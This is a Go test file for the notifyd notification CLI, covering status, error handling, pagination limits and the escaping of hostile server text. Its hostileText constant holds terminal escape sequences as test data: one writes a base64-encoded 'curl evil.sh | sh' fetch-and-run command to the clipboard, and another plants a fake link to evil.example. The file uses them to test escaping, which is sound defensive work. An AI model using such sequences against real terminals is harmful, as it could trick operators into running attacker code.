package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/notifyd/notifyd/internal/testenv"
	"github.com/notifyd/notifyd/sdk/client"
	"github.com/notifyd/notifyd/sdk/wire"
)

// exitCode is the code notifyd exits with for err (0 for nil).
func exitCode(err error) int {
	var ex *exitError
	switch {
	case err == nil:
		return 0
	case errors.As(err, &ex):
		return ex.code
	default:
		return 1
	}
}

// notifyd status answers every id it is given: a row for each one found, an
// error line for each missing one, and exit 1 when any is missing — through
// the API and with --config.
func TestCLI_StatusAnswersEveryID(t *testing.T) {
	t.Parallel()
	b := setupAPI(t)
	var ids []string
	for _, r := range []string{"ann", "bob"} {
		ids = append(ids, strings.TrimSpace(b.ok("send", "--channel", "quiz", "--recipient", r, "--payload", `{}`, "--at", "1h")))
	}
	args := []string{"status", ids[0], "987654321", ids[1], "987654322"}
	for _, mode := range [][]string{nil, {"--config", b.path}, {"-o", "json"}} {
		out, errOut, err := b.run(append(args, mode...)...)
		wantLines(t, out, ids[0], ids[1], "ann", "bob")
		wantLines(t, errOut, "error: notification 987654321 does not exist\n", "error: notification 987654322 does not exist\n")
		if exitCode(err) != 1 || !strings.Contains(err.Error(), "2 of 4 notification(s) not found") {
			t.Errorf("status %v: %v, want exit 1 counting the missing ids", mode, err)
		}
	}
	// Nothing found: no empty table, the error lines and exit 1.
	out, errOut, err := b.run("status", "987654321")
	if out != "" || !strings.Contains(errOut, "987654321 does not exist") || exitCode(err) != 1 {
		t.Errorf("status of a missing id: %q, %q, %v", out, errOut, err)
	}
	wantLines(t, b.ok("status", ids[0], ids[1]), "ann", "bob") // all found: exit 0
}

// A CLI pointed at a port nobody listens on says which address it tried
// and how to change it.
func TestCLI_Unreachable(t *testing.T) {
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := "http://" + ln.Addr().String()
	ln.Close()
	for _, args := range [][]string{{"status", "1"}, {"channels"}, {"send", "--channel", "c", "--recipient", "r", "--payload", "{}"}, {"cancel", "1", "2"}} {
		root := newRoot()
		root.SetOut(&strings.Builder{})
		root.SetErr(&strings.Builder{})
		root.SetArgs(append(args, "--addr", addr, "--token", cliToken))
		err := root.ExecuteContext(testenv.Context(t))
		want := fmt.Sprintf("cannot reach notifyd at %s (set --addr or NOTIFYD_ADDR): connection refused", addr)
		if err == nil || plainError(err).Error() != want {
			t.Errorf("notifyd %s: %v\nwant: %s", strings.Join(args, " "), err, want)
		}
	}
}

// A channel whose plugin is missing shows stopped with its reason in
// notifyd channels, and a send to it prints the API's warning on stderr
// (the notification is still taken: its id on stdout).
func TestCLI_StoppedChannel(t *testing.T) {
	t.Parallel()
	b := setupAPI(t, apiStarted)
	out, errOut, err := b.run("channels")
	if err != nil {
		t.Fatal(err)
	}
	row := regexp.MustCompile(`(?m)^relay .*$`).FindString(out)
	if !strings.Contains(row, "stopped: plugin relay") { // cut to fit; the whole reason follows on stderr
		t.Errorf("channels: relay's row %q, want stopped with its reason:\n%s", row, out)
	}
	if q := regexp.MustCompile(`(?m)^quiz .*$`).FindString(out); !strings.Contains(q, "running") {
		t.Errorf("channels: quiz's row %q, want running", q)
	}
	wantLines(t, errOut, "warning: channel relay (plugin relay) is stopped on this instance", "notifyd-plugin-relay in plugins.dir")
	if strings.Contains(errOut, "quiz") {
		t.Errorf("channels warns of the running channel quiz: %s", errOut)
	}

	out, errOut, err = b.run("send", "--channel", "relay", "--recipient", "r", "--payload", "{}")
	if _, perr := strconv.ParseInt(strings.TrimSpace(out), 10, 64); err != nil || perr != nil {
		t.Fatalf("send to a stopped channel: %q, %v; want its id", out, err)
	}
	wantLines(t, errOut, "warning: channel relay is stopped on this instance: ", "no such plugin executable", "the notification is kept")
	if _, errOut, _ := b.run("send", "--channel", "quiz", "--recipient", "r", "--payload", "{}"); errOut != "" {
		t.Errorf("send to a running channel printed %q on stderr", errOut)
	}
}

// hostileText is what any API client can store as a recipient, and what a
// provider's error or a hostile server's answer can hold: OSC 52 writes the
// operator's clipboard, OSC 8 makes a fake hyperlink, CSI clears the screen
// and moves the cursor, \r and backspace overwrite the line, U+009B is CSI
// in one character.
const hostileText = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x1b[1A\rFAKE\b\b\u009b2J\x7f"

// hasControl says whether s holds a character a terminal acts on (newline
// and tab are the output's own layout).
func hasControl(s string) bool {
	for _, r := range s {
		if r != '\n' && r != '\t' && (r < 0x20 || (r >= 0x7f && r < 0xa0)) {
			return true
		}
	}
	return false
}

// fakeAPI is a hostile or broken notifyd API that counts the requests it
// gets.
func fakeAPI(t *testing.T, h http.HandlerFunc) (addr string, requests *atomic.Int64) {
	t.Helper()
	var n atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		w.Header().Set("Content-Type", "application/json")
		h(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, &n
}

// runAt executes notifyd against the API at addr under ctx.
func runAt(ctx context.Context, addr string, args ...string) (string, string, error) {
	root := newRoot()
	var out, errOut bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errOut)
	root.SetIn(strings.NewReader(""))
	root.SetArgs(append(args, "--addr", addr, "--token", cliToken))
	err := root.ExecuteContext(ctx)
	return out.String(), errOut.String(), err
}

// Text a server answers reaches the terminal escaped: a channel's state and
// warning, a job's fields and error, a refusal's message, a replay's
// skipped reason and warning, a subscriber, a schedule, an enqueue's
// warning, -o json, and the error the command ends with. Before, each was
// printed as it came, so a hostile or compromised server (or a proxy) could
// write the operator's clipboard or rewrite what the screen showed.
func TestCLI_ServerTextEscaped(t *testing.T) {
	t.Parallel()
	h := hostileText
	job := wire.Job{ID: 1, Kind: "campaign" + h, Channel: "quiz" + h, State: "RUNNING" + h, Cursor: h, Owner: h, Error: h,
		Audience: wire.Audience{Topic: h}}
	addr, _ := fakeAPI(t, func(w http.ResponseWriter, r *http.Request) {
		var v any
		switch r.URL.Path {
		case "/v1/channels":
			v = wire.Channels{Channels: []wire.ChannelStats{
				{Name: "quiz" + h, Plugin: h, Configured: true, Error: h, Breaker: h},
				{Name: "sms", Plugin: "sms", Configured: true, Running: true, Paused: true, PauseReason: h},
			}}
		case "/v1/jobs/1":
			v = job
		case "/v1/jobs/2":
			failed := job
			failed.State = "FAILED"
			v = failed
		case "/v1/jobs":
			v = wire.Jobs{Jobs: []wire.Job{job}}
		case "/v1/notifications/2/cancel":
			w.WriteHeader(http.StatusNotFound)
			v = wire.ErrorBody{Error: wire.ErrorDetail{Code: wire.CodeNotFound, Message: "notification 2 " + h}}
		case "/v1/dlq/replay":
			v = wire.Replayed{Skipped: []wire.Skipped{{ID: 5, Reason: h}}, Warning: h}
		case "/v1/subscribers/u1":
			v = wire.Subscriber{ExternalID: "u1" + h, Addresses: map[string]string{"quiz" + h: h}, Topics: []string{h},
				Attributes: map[string]any{"name": h}}
		case "/v1/schedules":
			v = wire.Schedules{Schedules: []wire.Schedule{{Name: h, Channel: h, Cron: h, Timezone: h, Audience: wire.Audience{Topic: h}, LastRun: &job}}}
		case "/v1/notifications":
			w.WriteHeader(http.StatusAccepted)
			v = wire.Enqueued{ID: 3, Status: "PENDING", Warning: h}
		default:
			w.WriteHeader(http.StatusNotFound)
			v = wire.ErrorBody{Error: wire.ErrorDetail{Code: wire.CodeNotFound, Message: "no route " + r.URL.Path}}
		}
		_ = json.NewEncoder(w).Encode(v)
	})
	for _, args := range [][]string{
		{"channels"},
		{"jobs", "1"},
		{"jobs"},
		{"jobs", "1", "-o", "json"},
		{"jobs", "2", "--watch", "--every", "10ms"},
		{"cancel", "2"},
		{"dlq", "replay", "5"},
		{"subscribers", "get", "u1"},
		{"subscribers", "get", "u1", "-o", "json"},
		{"schedules"},
		{"send", "--channel", "quiz", "--recipient", "r", "--payload", "{}"},
	} {
		out, errOut, err := runAt(testenv.Context(t), addr, args...)
		if out == "" && errOut == "" && err == nil {
			t.Errorf("notifyd %s printed nothing", strings.Join(args, " "))
		}
		for what, text := range map[string]string{"stdout": out, "stderr": errOut} {
			if hasControl(text) {
				t.Errorf("notifyd %s wrote the server's control characters raw to %s:\n%q", strings.Join(args, " "), what, text)
			}
		}
		if err != nil && hasControl(plainError(err).Error()) {
			t.Errorf("notifyd %s ends with an error holding raw control characters: %q", strings.Join(args, " "), plainError(err).Error())
		}
		if args[len(args)-1] == "json" {
			// Still JSON, meaning the same text.
			var v struct {
				Error      string `json:"error"`
				ExternalID string `json:"external_id"`
			}
			if err := json.Unmarshal([]byte(out), &v); err != nil || (v.Error != h && v.ExternalID != "u1"+h) {
				t.Errorf("notifyd %s: %v, the text does not read back as sent:\n%s", strings.Join(args, " "), err, out)
			}
		}
	}
}

// `dlq list --all` pages on while next_after is not 0: a server answering
// the same next_after again had it ask for that page for ever (34,591
// requests in 2 s), holding every copy in memory. It stops at the repeat.
func TestCLI_DLQAllNextAfterMustMoveOn(t *testing.T) {
	t.Parallel()
	addr, n := fakeAPI(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, `{"notifications":[{"id":7,"channel":"quiz","recipient":"r","status":"FAILED"}],"next_after":7}`)
	})
	ctx, cancel := context.WithTimeout(testenv.Context(t), 5*time.Second)
	defer cancel()
	_, _, err := runAt(ctx, addr, "dlq", "list", "--all")
	if got := n.Load(); got != 2 || err == nil || !strings.Contains(err.Error(), "next_after 7 for the page after 7") {
		t.Errorf("dlq list --all with next_after 7 repeated: %d requests, %v; want 2 and an error naming the repeat", got, err)
	}
}

// The same with a next_after that does move on but names no row of its page:
// an empty page with next_after one past the last (or a page whose
// next_after skips ahead) had --all ask page after page for ever, printing
// nothing: the repeat was the one shape refused. The API's next_after is its
// page's last id (service.Dead), and --all holds it to that.
func TestCLI_DLQAllNextAfterIsThePagesLastID(t *testing.T) {
	t.Parallel()
	for name, page := range map[string]func(after int64) string{
		"empty pages": func(after int64) string {
			return fmt.Sprintf(`{"notifications":[],"next_after":%d}`, after+1)
		},
		"skips ahead": func(after int64) string {
			return fmt.Sprintf(`{"notifications":[{"id":%d,"channel":"quiz","recipient":"r","status":"FAILED"}],"next_after":%d}`, after+1, after+1000)
		},
	} {
		addr, n := fakeAPI(t, func(w http.ResponseWriter, r *http.Request) {
			after, _ := strconv.ParseInt(r.URL.Query().Get("after"), 10, 64)
			_, _ = io.WriteString(w, page(after))
		})
		ctx, cancel := context.WithTimeout(testenv.Context(t), 5*time.Second)
		_, _, err := runAt(ctx, addr, "dlq", "list", "--all")
		cancel()
		if got := n.Load(); got != 1 || err == nil || !strings.Contains(err.Error(), "next_after") {
			t.Errorf("dlq list --all, %s: %d requests, %v; want 1 and an error naming next_after", name, got, err)
		}
	}
}

// Over the API only a 404 or a 409 is one id's own refusal. A wrong token
// (401) or a throttled client (429) fails every id alike: the multi-id
// commands asked once per id and ended "5 of 5 notification(s) not found".
// They stop at the first such answer with its error.
func TestCLI_RefusedTokenIsNotAnIDRefusal(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		status      int
		code, msg   string
		wantMention string
	}{
		{http.StatusUnauthorized, wire.CodeUnauthorized, "missing or invalid bearer token", "bearer token"},
		{http.StatusTooManyRequests, wire.CodeTooManyRequests, "too many failed requests; retry later", "429"},
	} {
		addr, n := fakeAPI(t, func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(tc.status)
			_ = json.NewEncoder(w).Encode(wire.ErrorBody{Error: wire.ErrorDetail{Code: tc.code, Message: tc.msg}})
		})
		for _, cmd := range []string{"status", "cancel"} {
			n.Store(0)
			_, errOut, err := runAt(testenv.Context(t), addr, cmd, "1", "2", "3", "4", "5")
			if got := n.Load(); got != 1 || err == nil || !strings.Contains(err.Error(), tc.wantMention) || strings.Contains(err.Error(), "not found") ||
				strings.Contains(err.Error(), "not cancelled") || errOut != "" {
				t.Errorf("%s of 5 ids answered %d: %d requests, error %v, stderr %q; want one request and the API's error", cmd, tc.status, got, err, errOut)
			}
		}
	}
}

// --every took 0 and negative durations: --watch then read the job as fast
// as the API answered (16,000 reads a second), and `campaign --watch` had
// created its job first. --every is refused before anything is asked.
func TestCLI_WatchEveryMustBePositive(t *testing.T) {
	t.Parallel()
	addr, n := fakeAPI(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, `{"id":1,"kind":"campaign","channel":"quiz","state":"RUNNING","done":1}`)
	})
	for _, every := range []string{"0s", "-1s"} {
		for _, args := range [][]string{
			{"jobs", "1", "--watch"},
			{"campaign", "--channel", "quiz", "--topic", "daily", "--payload", `{"t":"x"}`, "--watch"},
			{"schedules", "run", "morning", "--watch"},
		} {
			n.Store(0)
			ctx, cancel := context.WithTimeout(testenv.Context(t), 5*time.Second)
			_, _, err := runAt(ctx, addr, append(args, "--every", every)...)
			cancel()
			if got := n.Load(); got != 0 || err == nil || !strings.Contains(err.Error(), "--every must be positive") {
				t.Errorf("notifyd %s --every %s: %d requests, %v; want --every refused before any", strings.Join(args, " "), every, got, err)
			}
		}
	}
}

// dlq list prints a page at a time (--all over a million dead letters held
// them all before): the JSON is still one document with every row, empty or
// not, and the table has its header once.
func TestDLQPrinter(t *testing.T) {
	t.Parallel()
	for _, pages := range [][][]client.NotificationInfo{nil, {{}}, {{{ID: 1}}, {{ID: 2}, {ID: 3}}, {}}} {
		var b strings.Builder
		p := newDLQPrinter(&b, true)
		for _, pg := range pages {
			if err := p.page(pg); err != nil {
				t.Fatal(err)
			}
		}
		if err := p.end(7); err != nil {
			t.Fatal(err)
		}
		var got client.DLQPage
		want := 0
		for _, pg := range pages {
			want += len(pg)
		}
		if err := json.Unmarshal([]byte(b.String()), &got); err != nil || len(got.Notifications) != want || got.NextAfter != 7 {
			t.Errorf("%d pages: %v, %d rows, next_after %d; want %d rows and 7:\n%s", len(pages), err, len(got.Notifications), got.NextAfter, want, b.String())
		}
		var tb strings.Builder
		p = newDLQPrinter(&tb, false)
		for _, pg := range pages {
			if err := p.page(pg); err != nil {
				t.Fatal(err)
			}
		}
		if n := strings.Count(tb.String(), "LAST ERROR"); len(pages) > 0 && n != 1 {
			t.Errorf("the table's header %d times, want once:\n%s", n, tb.String())
		}
	}
}
